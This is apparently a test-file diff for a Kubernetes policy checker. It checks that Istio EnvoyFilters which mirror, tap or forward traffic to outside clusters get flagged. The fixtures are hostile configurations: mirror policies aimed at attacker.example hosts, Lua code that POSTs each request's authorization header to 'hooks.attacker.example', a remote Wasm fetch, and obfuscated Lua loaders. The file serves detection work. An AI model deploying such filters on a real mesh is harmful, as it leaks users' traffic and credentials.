@@ -196,3 +196,79 @@ describe('traffic_mirrored: mesh and gateway routes', () => {
     expect(codes(write(TC, tc('Redirect')))).toEqual(MIRRORED);
   });
 });
+
+describe('traffic_mirrored: Istio EnvoyFilter (raw Envoy configuration)', () => {
+  const EF = '/apis/networking.istio.io/v1alpha3/namespaces/shop/envoyfilters';
+  const ef = (configPatches: object[]) => ({ apiVersion: 'networking.istio.io/v1alpha3', kind: 'EnvoyFilter', metadata: { name: 'checkout', namespace: 'shop' }, spec: { workloadSelector: { labels: { app: 'checkout' } }, configPatches } });
+  const routePatch = (value: object, applyTo = 'HTTP_ROUTE') => ({ applyTo, match: { context: 'SIDECAR_INBOUND', routeConfiguration: { vhost: { name: 'inbound|http|8080' } } }, patch: { operation: 'MERGE', value } });
+  const filter = (value: object) => ({ applyTo: 'HTTP_FILTER', match: { context: 'SIDECAR_INBOUND', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager', subFilter: { name: 'envoy.filters.http.router' } } } } }, patch: { operation: 'INSERT_BEFORE', value } });
+  const lua = (code: string) => filter({ name: 'envoy.filters.http.lua', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua', inlineCode: code } });
+  const wasm = (vm: object) => filter({ name: 'envoy.filters.http.wasm', typed_config: { '@type': 'type.googleapis.com/udpa.type.v1.TypedStruct', type_url: 'type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm', value: { config: { vm_config: vm } } } });
+  const mirrorTo = (cluster: object) => routePatch({ route: { request_mirror_policies: [{ ...cluster, runtime_fraction: { default_value: { numerator: 100 } } }] } });
+
+  it("finds a route's or virtual host's request_mirror_policies outside the namespace's own Services, in either spelling", () => {
+    expect(codes(write(EF, ef([mirrorTo({ cluster: 'outbound|443||collector.attacker.example' })])))).toEqual(MIRRORED);
+    expect(write(EF, ef([mirrorTo({ cluster: 'outbound|443||collector.attacker.example' })])).violations[0]).toMatchObject({ path: 'spec.configPatches[0].patch.value.route.request_mirror_policies[0]', detail: expect.stringContaining('collector.attacker.example') });
+    expect(codes(write(EF, ef([mirrorTo({ cluster: 'outbound|80||ledger.payments.svc.cluster.local' })])))).toEqual(MIRRORED);
+    // A cluster the EnvoyFilter defines itself (a static address anywhere), or one each request names.
+    expect(codes(write(EF, ef([mirrorTo({ cluster: 'shadow_cluster' })])))).toEqual(MIRRORED);
+    expect(codes(write(EF, ef([mirrorTo({ cluster_header: 'x-mirror-cluster' })])))).toEqual(MIRRORED);
+    expect(codes(write(EF, ef([routePatch({ requestMirrorPolicies: [{ cluster: 'outbound|443||x.attacker.example' }] }, 'VIRTUAL_HOST')])))).toEqual(MIRRORED);
+    expect(codes(write(EF, ef([routePatch({ virtual_hosts: [{ name: 'all', domains: ['*'], routes: [{ match: { prefix: '/' }, route: { cluster: 'outbound|8080||checkout.shop.svc.cluster.local', request_mirror_policy: { cluster: 'outbound|443||x.attacker.example' } } }] }] }, 'ROUTE_CONFIGURATION')])))).toEqual(MIRRORED);
+    // Patched in: merge, JSON patch.
+    expect(codes(write(`${EF}/checkout`, { spec: { configPatches: [mirrorTo({ cluster: 'outbound|443||x.attacker.example' })] } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
+    expect(codes(write(`${EF}/checkout`, [{ op: 'add', path: '/spec/configPatches/0/patch/value/route/request_mirror_policies', value: [{ cluster: 'outbound|443||x.attacker.example' }] }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
+  });
+
+  it('finds a tap (the HTTP filter or the transport socket), and Lua code that sends requests out with httpCall', () => {
+    expect(codes(write(EF, ef([filter({ name: 'envoy.filters.http.tap', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.tap.v3.Tap', common_config: { static_config: { match: { any_match: true }, output_config: { sinks: [{ file_per_tap: { path_prefix: '/tmp/tap' } }] } } } } })])))).toEqual(MIRRORED);
+    expect(codes(write(EF, ef([{ applyTo: 'CLUSTER', patch: { operation: 'MERGE', value: { transport_socket: { name: 'envoy.transport_sockets.tap', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.transport_sockets.tap.v3.Tap' } } } } }])))).toEqual(MIRRORED);
+    const out = 'function envoy_on_request(h)\n  h:httpCall("outbound|443||hooks.attacker.example", {[":method"] = "POST", [":path"] = "/c", [":authority"] = "hooks.attacker.example"}, h:headers():get("authorization"), 200, true)\nend\n';
+    expect(codes(write(EF, ef([lua(out)])))).toEqual(MIRRORED);
+    expect(write(EF, ef([lua(out)])).violations[0]!.detail).toContain('hooks.attacker.example');
+    // A cluster the code computes is any cluster.
+    expect(codes(write(EF, ef([lua('function envoy_on_request(h)\n  local c = h:headers():get("x-c")\n  h:httpCall(c, {}, "", 100)\nend\n')])))).toEqual(MIRRORED);
+    // Per-route Lua, the typed config itself.
+    expect(codes(write(EF, ef([routePatch({ typed_per_filter_config: { 'envoy.filters.http.lua': { '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.LuaPerRoute', source_code: { inline_string: out } } } })])))).toEqual(MIRRORED);
+  });
+
+  it('calls unread what it cannot see: Wasm code fetched or loaded, Lua that reaches httpCall without spelling it', () => {
+    const remote = write(EF, ef([wasm({ runtime: 'envoy.wasm.runtime.v8', code: { remote: { http_uri: { uri: 'https://plugins.attacker.example/f.wasm', timeout: '10s' }, sha256: 'a'.repeat(64) } } })]));
+    expect(remote.unreadable).toBe('body_unreadable');
+    expect(remote.unreadableDetail).toContain('Wasm');
+    for (const code of ['function envoy_on_request(h) h["http" .. "Call"](h, "x", {}, "", 1) end', 'function envoy_on_request(h) dofile("/etc/envoy/lua/capture.lua") end', 'function envoy_on_request(h) local f = load(h:headers():get("x-code")) f() end']) {
+      expect(write(EF, ef([lua(code)])).unreadable, code).toBe('body_unreadable');
+    }
+  });
+
+  it('asks nothing of the EnvoyFilters meshes run every day', () => {
+    const routine = [
+      // Istio's own stats extension on the null runtime (built into the proxy).
+      wasm({ runtime: 'envoy.wasm.runtime.null', code: { local: { inline_string: 'envoy.wasm.stats' } } }),
+      // Security headers from Lua.
+      lua('function envoy_on_response(h)\n  h:headers():add("strict-transport-security", "max-age=31536000")\n  h:headers():replace("x-frame-options", "DENY")\n  h:logInfo("path " .. (h:headers():get(":path") or ""))\nend\n'),
+      // Lua calling the namespace's own auth service.
+      lua('function envoy_on_request(h)\n  local hd, body = h:httpCall("outbound|8080||authz.shop.svc.cluster.local", {[":method"] = "GET", [":path"] = "/check", [":authority"] = "authz"}, "", 500)\nend\n'),
+      filter({ name: 'envoy.filters.http.local_ratelimit', typed_config: { '@type': 'type.googleapis.com/udpa.type.v1.TypedStruct', type_url: 'type.googleapis.com/envoy.extensions.filters.http.local_ratelimit.v3.LocalRateLimit', value: { stat_prefix: 'http_local_rate_limiter', token_bucket: { max_tokens: 100, tokens_per_fill: 100, fill_interval: '1s' } } } }),
+      filter({ name: 'envoy.filters.http.compressor', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.compressor.v3.Compressor', compressor_library: { name: 'text_optimized', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.compression.gzip.compressor.v3.Gzip' } } } }),
+      { applyTo: 'NETWORK_FILTER', match: { context: 'GATEWAY', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager' } } } }, patch: { operation: 'MERGE', value: { typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager', use_remote_address: true, xff_num_trusted_hops: 1, common_http_protocol_options: { idle_timeout: '300s' } } } } },
+      { applyTo: 'CLUSTER', match: { cluster: { service: 'checkout.shop.svc.cluster.local' } }, patch: { operation: 'MERGE', value: { per_connection_buffer_limit_bytes: 32768, circuit_breakers: { thresholds: [{ max_connections: 1000 }] } } } },
+      { applyTo: 'LISTENER', match: { context: 'SIDECAR_INBOUND' }, patch: { operation: 'MERGE', value: { per_connection_buffer_limit_bytes: 65536 } } },
+      // A canary shadow to the namespace's own v2.
+      mirrorTo({ cluster: 'outbound|8080|v2|checkout.shop.svc.cluster.local' }),
+      routePatch({ route: { timeout: '30s', retry_policy: { retry_on: '5xx', num_retries: 2 } } }),
+    ];
+    for (const p of routine) {
+      const r = write(EF, ef([p]));
+      expect(r.violations, JSON.stringify(p).slice(0, 120)).toEqual([]);
+      expect(r.unreadable, JSON.stringify(p).slice(0, 120)).toBeUndefined();
+    }
+  });
+
+  it('reads an EnvoyFilter a GitOps object patches in, or carries', () => {
+    const app = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'mesh', namespace: 'argocd' }, spec: { project: 'mesh', destination: { server: 'https://kubernetes.default.svc', namespace: 'shop' }, source: { repoURL: 'https://git.example/mesh.git', path: 'shop', kustomize: { patches: [{ target: { group: 'networking.istio.io', kind: 'EnvoyFilter', name: 'checkout' }, patch: JSON.stringify([{ op: 'add', path: '/spec/configPatches/-', value: mirrorTo({ cluster: 'outbound|443||x.attacker.example' }) }]) }] } } } };
+    expect(codes(write('/apis/argoproj.io/v1alpha1/namespaces/argocd/applications', app))).toEqual(MIRRORED);
+    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [ef([mirrorTo({ cluster: 'outbound|443||x.attacker.example' })])] } } };
+    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
+  });
+});
